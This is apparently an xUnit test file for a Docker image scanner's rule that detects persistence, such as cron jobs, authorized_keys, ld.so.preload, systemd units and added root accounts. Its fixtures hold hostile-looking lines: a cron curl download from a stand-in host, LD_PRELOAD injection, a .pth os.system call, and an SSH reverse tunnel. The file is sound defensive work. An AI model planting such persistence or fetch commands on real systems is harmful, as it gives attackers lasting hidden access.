using DockerScan.Core.Findings;

namespace DockerScan.Scanners.Tests.Sandbox.Analysis.Rules;

public sealed class PersistenceRuleTests
{
    [Theory]
    [InlineData("/var/spool/cron/crontabs/root", "cron-table")]
    [InlineData("/etc/cron.d/sync", "cron-system")]
    [InlineData("/root/.ssh/authorized_keys", "authorized-keys")]
    [InlineData("/etc/ld.so.preload", "preload")]
    [InlineData("/etc/rc.local", "boot-script")]
    [InlineData("/etc/init.d/x", "init-script")]
    [InlineData("/etc/profile.d/x.sh", "profile-system")]
    [InlineData("/root/.bashrc", "profile-user")]
    [InlineData("/etc/sudoers.d/x", "sudoers")]
    [InlineData("/etc/systemd/system/x.service", "systemd-unit")]
    public void Find_ChangedPlace_IsFound(string path, string id)
    {
        var found = Assert.Single(TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Changed(path, "changed", "new line\n", "old\n"), "behavior.persistence"));

        Assert.Equal((id, path), (found.Id, found.Location));
        Assert.Contains("new line", found.Evidence, StringComparison.Ordinal);
        Assert.DoesNotContain("old", found.Evidence, StringComparison.Ordinal);
    }

    // An engine lists a file under its real path; programs find it by the image's link.
    [Theory]
    [InlineData("/etc/cron.d", "/srv/jobs", "x", "cron-system")]
    [InlineData("/root/.ssh", "/srv/keys", "authorized_keys", "authorized-keys")]
    [InlineData("/etc/profile.d", "/opt/p", "x.sh", "profile-system")]
    public async Task Find_PlaceByALinkOfTheImage_IsFound(string link, string folder, string name, string id)
    {
        await using var image = new DockerScan.TestKit.Content.FakeImageContent();
        image.Directory(folder).Link(link, folder);
        var record = new RecordBuilder().Process(1, "/a").Changed($"{folder}/{name}", "added", "* * * * * root /tmp/x\n").Build() with { Image = image.Index };

        Assert.Equal((id, $"{folder}/{name}"), Assert.Single(TestBehavior.Findings(record, "behavior.persistence")) is var found ? (found.Id, found.Location) : default);
        Assert.Empty(TestBehavior.Findings(record with { Image = new DockerScan.TestKit.Content.FakeImageContent().Index }, "behavior.persistence"));
    }

    // What stands there decides: honest start scripts write to these files too.
    [Theory]
    [InlineData("/etc/environment", "LD_PRELOAD=/usr/lib/.x.so", "environment-preload")]
    [InlineData("/etc/environment", "APP_HOME=/srv", null)]
    [InlineData("/etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke {\"/var/tmp/.u\";};", "package-hook")]
    [InlineData("/etc/apt/apt.conf.d/01proxy", "Acquire::http::Proxy \"http://proxy:3128\";", null)]
    [InlineData("/usr/lib/python3/dist-packages/x.pth", "import os; os.system('/var/tmp/.u')", "python-start")]
    [InlineData("/usr/lib/python3/dist-packages/app.pth", "/srv/app/src", null)]
    [InlineData("/etc/network/if-up.d/x", "#!/bin/sh", "network-hook")]
    [InlineData("/etc/network/interfaces", "auto eth0", null)]
    [InlineData("/etc/ssh/sshrc", "/var/tmp/.u &", "login-command")]
    [InlineData("/etc/ssh/sshd_config", "Port 2222", null)]
    [InlineData("/root/.ssh/config", "  RemoteForward 9000 127.0.0.1:22", "ssh-forward")]
    [InlineData("/root/.ssh/config", "  LocalForward 5432 db:5432", null)]
    [InlineData("/root/.config/autostart/x.desktop", "[Desktop Entry]", "desktop-start")]
    public void Find_PlaceWhoseContentDecides_IsFoundByItsLines(string path, string line, string? id)
        => Assert.Equal(id, TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Changed(path, "changed", line + "\n", "old\n"), "behavior.persistence").SingleOrDefault()?.Id);

    [Fact]
    public void Find_TheWriter_IsNamed()
        => Assert.Contains("crontab /tmp/c -u root", Assert.Single(TestBehavior.Findings(
            new RecordBuilder().Process(1, "/a").Process(3, "/bin/sh", "sh -c crontab /tmp/c -u root; cat /var/spool/cron/crontabs/root").Changed("/var/spool/cron/crontabs/root"), "behavior.persistence")).Evidence, StringComparison.Ordinal);

    [Fact]
    public void Find_RootAccountAdded_IsFound()
        => Assert.Equal("root-account", Assert.Single(TestBehavior.Findings(new RecordBuilder().Process(1, "/a")
            .Changed("/etc/passwd", "changed", "root:x:0:0::/root:/bin/sh\nops:x:00:0::/:/bin/sh\n", "root:x:0:0::/root:/bin/sh\n"), "behavior.persistence")).Id);

    [Theory]
    [InlineData("root:$6$abc$def:1::::::\n", 1)]
    [InlineData("root::1::::::\n", 1)]
    [InlineData("root:!:1::::::\n", 0)]
    public void Find_RootPassword_IsFoundWhenItOpens(string now, int expected)
        => Assert.Equal(expected, TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Changed("/etc/shadow", "changed", now, "root:*:1::::::\n"), "behavior.persistence").Count);

    [Fact]
    public void Find_UnchangedText_IsNothing()
        => Assert.Empty(TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Changed("/root/.bashrc", "changed", "same", "same"), "behavior.persistence"));

    [Fact]
    public void Find_PlantedFile_IsNothing()
    {
        var record = new RecordBuilder().Process(1, "/a").Changed("/root/.ssh/authorized_keys");
        record.Finally = each => each with { TokenFiles = new Dictionary<string, string> { ["/root/.ssh/authorized_keys"] = "file-keys" } };

        Assert.Empty(TestBehavior.Findings(record, "behavior.persistence"));
    }

    // Backups and certificates: the image's own command could start the same program itself.
    [Theory]
    [InlineData("0 3 * * * root /usr/local/bin/backup.sh", Severity.Medium)]
    [InlineData("MAILTO=\"\"\n*/5 * * * * www-data php /srv/cron.php >> /var/log/cron.log 2>&1", Severity.Medium)]
    [InlineData("@daily root /opt/own --all /data", Severity.Medium)]
    [InlineData("0 3 * * * root /usr/bin/certbot renew --quiet", Severity.Medium)]
    [InlineData("0 3 * * * root /opt/made", Severity.High)]
    [InlineData("0 3 * * * root /opt/changed", Severity.High)]
    [InlineData("0 3 * * * root /opt/own; /opt/made", Severity.High)]
    [InlineData("0 3 * * * root /opt/own -q /opt/changed /data", Severity.High)]
    [InlineData("0 3 * * * root /opt/own --script=/opt/changed", Severity.High)]
    [InlineData("0 3 * * * root /opt/own /dev/shm/x", Severity.High)]
    [InlineData("0 3 * * * root /opt/own $(/opt/made)", Severity.High)]
    [InlineData("0 3 * * * root /opt/own\n@reboot root /opt/made", Severity.High)]
    [InlineData("LD_PRELOAD=/opt/made\n0 3 * * * root /opt/own", Severity.High)]
    [InlineData("PATH=/opt/made\n0 3 * * * root /opt/own", Severity.High)]
    [InlineData("* * * * * root /usr/bin/curl -fsSo /opt/own http://x.example/a", Severity.High)]
    [InlineData("* * * * * root /bin/sh /opt/made", Severity.High)]
    [InlineData("* * * * * root /usr/bin/env /opt/made", Severity.High)]
    [InlineData("* * * * * root sh -c /opt/made", Severity.High)]
    [InlineData("# nothing", Severity.High)]
    public void Find_CronTable_IsMediumOnlyWhereItStartsWhatTheImageBroughtAlong(string lines, Severity severity)
    {
        var record = new RecordBuilder().Process(1, "/a").Process(3, "/usr/local/bin/backup.sh").Process(4, "/srv/cron.php").Process(5, "/opt/own").Process(6, "/opt/changed")
            .Process(7, "/usr/bin/certbot").Process(8, "/usr/bin/curl").Process(9, "/bin/sh").Process(10, "/usr/bin/env").Changed("/opt/changed").Changed("/etc/cron.d/job", "added", lines + "\n");

        Assert.Equal(severity, TestBehavior.Findings(record, "behavior.persistence").Single(found => found.Location == "/etc/cron.d/job").Severity);
    }

    [Fact]
    public void Find_CronJobBesideAnInstallation_IsStillTold()
        => Assert.Single(TestBehavior.Findings(new RecordBuilder().Process(1, "/bin/sh").Process(4, "/usr/bin/dpkg", at: 1, end: 3).Changed("/var/lib/dpkg/status", "changed")
            .Process(5, "/bin/sh", "sh -c echo x > /etc/cron.d/sync").Changed("/etc/cron.d/sync"), "behavior.persistence"));

    // Who installs anything would be excused for all that lies where packages put files.
    [Theory]
    [InlineData("/etc/cron.d/sync", "/etc/cron.d/sync", 0)]
    [InlineData("/etc/cron.d/sync", "/usr/bin/x", 1)]
    [InlineData("/etc/cron.d/sync", null, 0)]
    [InlineData("/etc/profile.d/z.sh", "/usr/bin/x", 1)]
    [InlineData("/etc/pam.d/common-auth", "/usr/bin/x", 0)]
    [InlineData("/etc/rc2.d/S01x", "/etc/init.d/x", 0)]
    [InlineData("/etc/systemd/system/multi-user.target.wants/x.service", "/usr/lib/systemd/system/x.service", 0)]
    public void Find_FileBesideAnInstallation_IsToldWhereNoPackageBroughtIt(string path, string? listed, int expected)
    {
        var record = new RecordBuilder().Process(1, "/bin/sh", "sh /start.sh").Process(4, "/usr/bin/dpkg", at: 1, end: 3).Changed("/var/lib/dpkg/status", "changed").Changed(path);
        record.Finally = each => each with { PackageFiles = listed is null ? null : new HashSet<string> { listed } };

        Assert.Equal(expected, TestBehavior.Findings(record, "behavior.persistence").Count);
    }

    [Fact]
    public void Find_SeverityOfPreload_IsCritical()
        => Assert.Equal(Severity.Critical, TestBehavior.Findings(new RecordBuilder().Process(1, "/a").Changed("/etc/ld.so.preload"), "behavior.persistence")[0].Severity);
}
